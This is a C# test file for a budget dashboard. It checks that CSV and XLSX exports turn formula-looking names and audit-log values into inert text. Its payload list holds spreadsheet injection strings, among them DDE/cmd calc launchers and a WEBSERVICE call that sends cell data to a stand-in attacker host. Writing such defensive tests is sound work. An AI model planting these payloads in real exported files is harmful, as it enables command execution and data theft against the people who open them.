using System.Globalization;
using System.Text;
using Dashboard.Domain.Import;
using Dashboard.Domain.Indicators;
using Dashboard.Domain.People;
using Dashboard.Tests.Web.Security;

namespace Dashboard.Tests.Web.Exports;

/// <summary>Names that a spreadsheet would run come in with files and go out with files: as text.</summary>
public sealed class FormulaInjectionTests(SampleInstallation sample) : IClassFixture<SampleInstallation>
{
    private static readonly string[] Beginnings =
        ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "　=", "\u00A0+", "\u200B=", "\uFEFF@", "＝", "＋", "－", "＠", "﹦", "=-+@", "\" =", "'="];

    private static readonly string[] Bodies =
    [
        "cmd|'/c calc'!A0", "1+1", "HYPERLINK(\"http://evil.example\",\"点此\")", "SUM(A1:A9)", "DDE(\"cmd\";\"/C calc\";\"x\")",
        "2+5+cmd|' /C calc'!A0", "WEBSERVICE(\"http://evil.example/\"&A1)", "1", "IMPORTXML(CONCAT(A1),\"//a\")", "12.50",
    ];

    private static readonly string[] Payloads = [.. Beginnings.SelectMany(b => Bodies.Select(body => b + body))];

    [Fact]
    public async Task Names_LikeFormulas_LeaveAsTextAndNumbersStayNumbers()
    {
        Payloads.Length.ShouldBe(200);
        await FillAsync();
        using HttpClient client = await sample.SignInAsync(Role.Admin);
        foreach (string form in (string[])["csv", "xlsx"])
        {
            ExportedFile lines = await ExportedFile.FetchAsync(client, $"/export/lines/{form}?dept=INJ&unit=yuan&sort=Code&year=2026");
            string[] names = [.. sample.Ledger.Snapshots.Lines(sample.Ledger.Node("INJ"), sample.Ledger.Snapshots.QuestionFor(2026)).Select(l => l.Line.Name)];
            names.Length.ShouldBe(200);
            ShouldBeInert(lines.Column("项目").SkipLast(1), names, form);
            foreach (ReadCell amount in lines.Column("已执行（元）").SkipLast(1)) ShouldBeNumber(amount, "-1.5", form);

            ExportedFile indicators = await ExportedFile.FetchAsync(client, $"/export/indicators/{form}?dept=INJ&year=2026");
            Indicator[] known = [.. sample.Ledger.Indicators("INJ").Select(i => i.Indicator).OrderBy(i => i.Code, StringComparer.Ordinal)];
            indicators.Column("指标代码").Select(c => c.Text).ShouldBe(known.Select(i => i.Code), ignoreOrder: true);
            ShouldBeInert(indicators.Column("指标"), [.. known.Select(i => i.Name)], form);
            ShouldBeInert(indicators.Column("二级指标"), [.. known.Select(i => i.Level2)], form);
            ShouldBeInert(indicators.Column("计量单位"), [.. known.Select(i => i.Unit ?? "")], form);
        }
    }

    [Fact]
    public async Task Records_LikeFormulas_LeaveAsText()
    {
        string[] some = [.. Payloads.Where((_, i) => i % 7 == 0)];
        for (int i = 0; i < some.Length; i++)
        {
            byte[] file = Encoding.UTF8.GetBytes($"单位代码,单位名称,上级代码\nREC-{i},记录{i},\n");
            await sample.Ledger.ImportAsync(ImportKind.Departments, file, "a.csv", r => r with { Actor = new(some[i], some[^(i + 1)]) });
        }

        using HttpClient client = await sample.SignInAsync(Role.Admin);
        foreach (string form in (string[])["csv", "xlsx"])
        {
            ExportedFile records = await ExportedFile.FetchAsync(client, $"/export/audit/{form}");
            ReadCell[][] imports = [.. records.Rows.Select(row => row.ToArray()).Where(row => row[8].Text.Contains("a.csv", StringComparison.Ordinal))];
            ShouldBeInert(imports.Select(row => row[5]), some, form);
            ShouldBeInert(imports.Select(row => row[6]), some, form);
            // What the address says stands in the head of the file.
            string asked = Uri.EscapeDataString("=1+1");
            ExportedFile none = await ExportedFile.FetchAsync(client, $"/export/audit/{form}?q={asked}&actor={asked}");
            none.Rows.ShouldBeEmpty();
            none.Head.ShouldContain(line => line.Contains("=1+1", StringComparison.Ordinal));
        }
    }

    private static void ShouldBeInert(IEnumerable<ReadCell> cells, IReadOnlyList<string> names, string form)
    {
        ReadCell[] found = [.. cells];
        // A workbook says what is text; a CSV file needs the mark.
        found.Select(c => c.Text).ShouldBe(names.Select(name => form == "csv" && IsRun(name) ? "'" + name : name), ignoreOrder: true);
        foreach (ReadCell cell in found)
        {
            cell.IsFormula.ShouldBeFalse();
            if (form == "xlsx") cell.IsText.ShouldBe(true, cell.Text);
            else IsRun(cell.Text).ShouldBeFalse(cell.Text);
        }
    }

    /// <summary>As suspicious as the worst spreadsheet: blanks and what cannot be seen are skipped, wide forms are folded.</summary>
    private static bool IsRun(string text)
    {
        if (text.IndexOfAny(['\t', '\r', '\n']) == 0) return true;
        string seen = text.Normalize(NormalizationForm.FormKC).Trim().TrimStart('\u200B', '\uFEFF', ' ', '\t', '\r', '\n');
        return seen.Length > 0 && "=+-@".Contains(seen[0], StringComparison.Ordinal);
    }

    private static void ShouldBeNumber(ReadCell cell, string value, string form)
    {
        decimal.Parse(cell.Text, CultureInfo.InvariantCulture).ShouldBe(decimal.Parse(value, CultureInfo.InvariantCulture));
        if (form == "xlsx") cell.IsText.ShouldBe(false);
    }

    private async Task FillAsync()
    {
        await TakeAsync(ImportKind.Departments, "单位代码,单位名称,上级代码\nINJ,=1+1,\n");
        await TakeAsync(ImportKind.Budget, "单位代码,项目代码,项目名称,支出类别,资金性质,日期,类型,金额,文号\n" + Each((name, i) =>
            $"INJ,INJ-{i},{name},项目支出,一般公共预算,2026-01-10,年初预算,1000,"));
        await TakeAsync(ImportKind.Payments, "支付凭证号,支付日期,项目代码,支付金额\n" + Each((_, i) => $"INJ-{i},2026-02-01,INJ-{i},-1.5"));
        await TakeAsync(ImportKind.Indicators, "指标代码,单位代码,项目代码,一级指标,二级指标,三级指标,指标性质,指标值,计量单位,分值,累计方式\n" + Each((name, i) =>
            $"INJ-Z{i},INJ,INJ-{i},产出指标,{name},{name},≥,10,{name},1,累计"));
    }

    private async Task TakeAsync(ImportKind kind, string text)
    {
        var report = await sample.Ledger.ImportAsync(kind, text, r => r with { Year = 2026 });
        report.IsClean.ShouldBeTrue($"{kind} {report.Refusal} {string.Join(';', report.Rejected)}");
    }

    private static string Each(Func<string, int, string> row) =>
        string.Concat(Payloads.Select((p, i) => row($"\"{p.Replace("\"", "\"\"", StringComparison.Ordinal)}\"", i) + "\n"));
}
